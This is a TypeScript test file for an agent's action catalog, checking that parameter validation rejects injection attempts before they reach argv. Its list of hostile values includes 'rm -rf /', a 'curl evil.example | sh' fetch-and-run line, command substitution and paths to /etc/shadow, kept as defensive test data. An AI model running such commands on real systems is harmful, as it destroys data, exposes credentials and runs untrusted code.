import { describe, expect, it } from "vitest";
import { ActionCatalog } from "../../../agent/actions/catalog.ts";
import { actionsConfigSchema } from "../../../agent/actions/config.ts";
import { formatPublicKey } from "../../../shared/actions/signing.ts";
import { newKeys } from "./support/requests.ts";

const hubPublicKey = formatPublicKey(newKeys().publicKey);

/** One action per parameter type, each value the whole of one argv element, plus a splice. */
const catalog = new ActionCatalog(
  actionsConfigSchema.parse({
    hubPublicKey,
    catalog: {
      "restart-unit": {
        risk: "caution",
        argv: ["/usr/bin/sudo", "-n", "/usr/bin/systemctl", "restart", "{unit}"],
        params: { unit: { type: "enum", values: ["ollama-gpu.service", "ollama-cpu.service", "recommender.service"] } },
        target: "unit:{unit}",
      },
      "ollama-pull": {
        risk: "safe",
        argv: ["/usr/local/bin/ollama", "pull", "{model}"],
        params: { model: { type: "string", pattern: "[a-z0-9][a-z0-9._-]{0,62}(:[a-z0-9][a-z0-9._-]{0,62})?", maxLength: 128 } },
      },
      "zpool-scrub": {
        risk: "safe",
        argv: ["/usr/sbin/zpool", "scrub", "-w", "{pool}", "--", "{priority}"],
        params: { pool: { type: "enum", values: ["nvme-fast"] }, priority: { type: "integer", min: 1, max: 5 } },
      },
      "zfs-snapshot": {
        risk: "safe",
        argv: ["/usr/sbin/zfs", "snapshot", { splice: "{dataset}@{name}" }],
        params: {
          dataset: { type: "enum", values: ["nvme-fast/models"] },
          name: { type: "string", pattern: "vigil-[a-z0-9-]{1,40}" },
        },
        target: "dataset:{dataset}",
      },
    },
  }).catalog,
);

/** Values that must never reach argv: shell syntax, path traversal, option injection, overlong and hostile Unicode. */
const HOSTILE: Array<[string, unknown]> = [
  ["semicolon", "ollama-gpu.service; rm -rf /"],
  ["command substitution", "$(reboot)"],
  ["backticks", "`id`"],
  ["pipe", "x|sh"],
  ["and-and", "a && curl evil.example | sh"],
  ["redirect", "x > /etc/passwd"],
  ["glob", "*"],
  ["quotes", "'\"'"],
  ["newline", "ollama-gpu.service\nreboot"],
  ["NUL", "ollama-gpu.service\u0000--force"],
  ["tab", "a\tb"],
  ["escape sequence", "\u001b[2J"],
  ["traversal", "../../etc/shadow"],
  ["absolute path", "/etc/shadow"],
  ["dot-dot", ".."],
  ["option", "--help"],
  ["short option", "-rf"],
  ["overlong", "a".repeat(5000)],
  ["right-to-left override", "ollama\u202Egpu.service"],
  ["zero-width joiner", "oll\u200Dama"],
  ["Cyrillic homoglyph", "оllama-gpu.service"],
  ["fullwidth", "ｏｌｌａｍａ"],
  ["lone surrogate", "a\uD800b"],
  ["emoji", "llama🦙"],
  ["empty", ""],
  ["number", 7],
  ["boolean", true],
];

describe("parameters: hostile values never reach argv", () => {
  const cases: Array<[string, string, Record<string, unknown>, string]> = [];
  for (const [what, v] of HOSTILE) {
    cases.push([`enum gets ${what}`, "restart-unit", { unit: v }, "unit: "]);
    cases.push([`string gets ${what}`, "ollama-pull", { model: v }, "model: "]);
    cases.push([`integer gets ${what}`, "zpool-scrub", { pool: "nvme-fast", priority: v }, "priority: "]);
    cases.push([`spliced string gets ${what}`, "zfs-snapshot", { dataset: "nvme-fast/models", name: v }, "name: "]);
  }
  it.each(cases)("%s: PARAM_INVALID naming the parameter", (_what, action, params, prefix) => {
    const r = catalog.prepare(action, params);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.refusal.code).toBe("PARAM_INVALID");
    expect(r.refusal.message.startsWith(prefix)).toBe(true);
    // Messages quote values with control and format characters escaped: they cannot forge log or audit lines.
    expect(r.refusal.message).not.toMatch(/[\u0000-\u001f\u202e\u200d]/);
  });

  it("names the rule each value broke", () => {
    const msg = (action: string, params: Record<string, unknown>) => {
      const r = catalog.prepare(action, params);
      return r.ok ? "accepted" : r.refusal.message;
    };
    expect(msg("restart-unit", { unit: "postgresql.service" })).toBe(
      'unit: "postgresql.service" is not one of the allowed values (ollama-gpu.service, ollama-cpu.service, recommender.service)',
    );
    expect(msg("ollama-pull", { model: "-rf" })).toBe('model: "-rf" starts with "-" and would read as an option (allowLeadingDash is off)');
    expect(msg("ollama-pull", { model: "a".repeat(129) })).toBe("model: 129 characters, more than the 128 allowed");
    expect(msg("ollama-pull", { model: "ollama\u202Egpu" })).toBe("model: contains the control or format character U+202E");
    expect(msg("ollama-pull", { model: "a\uD800" })).toBe("model: contains an unpaired surrogate (not valid Unicode text)");
    expect(msg("ollama-pull", { model: "../x" })).toBe(
      'model: "../x" does not match the pattern [a-z0-9][a-z0-9._-]{0,62}(:[a-z0-9][a-z0-9._-]{0,62})?',
    );
    expect(msg("zpool-scrub", { pool: "nvme-fast", priority: 9 })).toBe("priority: 9 is outside 1..5");
    expect(msg("zpool-scrub", { pool: "nvme-fast", priority: "0x3" })).toBe('priority: "0x3" is not a decimal integer');
    expect(msg("zpool-scrub", { pool: "nvme-fast", priority: 2.5 })).toBe("priority: 2.5 is not an integer");
    expect(msg("zpool-scrub", { pool: "nvme-fast", priority: "99999999999999999" })).toBe(
      'priority: "99999999999999999" is not a decimal integer',
    );
    expect(msg("restart-unit", { unit: "ollama\u001b[2J" })).toBe(
      'unit: "ollama\\u001b[2J" is not one of the allowed values (ollama-gpu.service, ollama-cpu.service, recommender.service)',
    );
    expect(msg("restart-unit", {})).toBe("unit: missing (required)");
    expect(msg("restart-unit", { unit: "ollama-gpu.service", force: "yes" })).toBe('"force": unknown parameter (this action takes unit)');
    expect(msg("rm-rf", {})).toBe(
      '"rm-rf" is not in this agent\'s action catalog (it has restart-unit, ollama-pull, zpool-scrub, zfs-snapshot)',
    );
  });

  it("puts each accepted value into exactly the argv element the template declares", () => {
    const run = (action: string, params: Record<string, unknown>) => {
      const r = catalog.prepare(action, params);
      if (!r.ok) throw new Error(r.refusal.message);
      return { argv: r.value.argv, target: r.value.target };
    };
    expect(run("restart-unit", { unit: "ollama-gpu.service" })).toEqual({
      argv: ["/usr/bin/sudo", "-n", "/usr/bin/systemctl", "restart", "ollama-gpu.service"],
      target: "unit:ollama-gpu.service",
    });
    expect(run("ollama-pull", { model: "llama3.1:8b-instruct-q4_k_m" })).toEqual({
      argv: ["/usr/local/bin/ollama", "pull", "llama3.1:8b-instruct-q4_k_m"],
      target: "ollama-pull",
    });
    expect(run("zpool-scrub", { pool: "nvme-fast", priority: "3" }).argv).toEqual([
      "/usr/sbin/zpool",
      "scrub",
      "-w",
      "nvme-fast",
      "--",
      "3",
    ]);
    expect(run("zfs-snapshot", { dataset: "nvme-fast/models", name: "vigil-before-upgrade" })).toEqual({
      argv: ["/usr/sbin/zfs", "snapshot", "nvme-fast/models@vigil-before-upgrade"],
      target: "dataset:nvme-fast/models",
    });
  });

  it("lets a string start with '-' only where allowLeadingDash says so", () => {
    const c = new ActionCatalog(
      actionsConfigSchema.parse({
        hubPublicKey,
        catalog: {
          nice: {
            risk: "safe",
            argv: ["/usr/bin/renice", "{n}"],
            params: { n: { type: "string", pattern: "-?[0-9]{1,2}", allowLeadingDash: true } },
          },
        },
      }).catalog,
    );
    expect(c.prepare("nice", { n: "-5" })).toMatchObject({ ok: true, value: { argv: ["/usr/bin/renice", "-5"] } });
    expect(c.prepare("nice", { n: "--5" })).toMatchObject({ ok: false, refusal: { code: "PARAM_INVALID" } });
  });
});
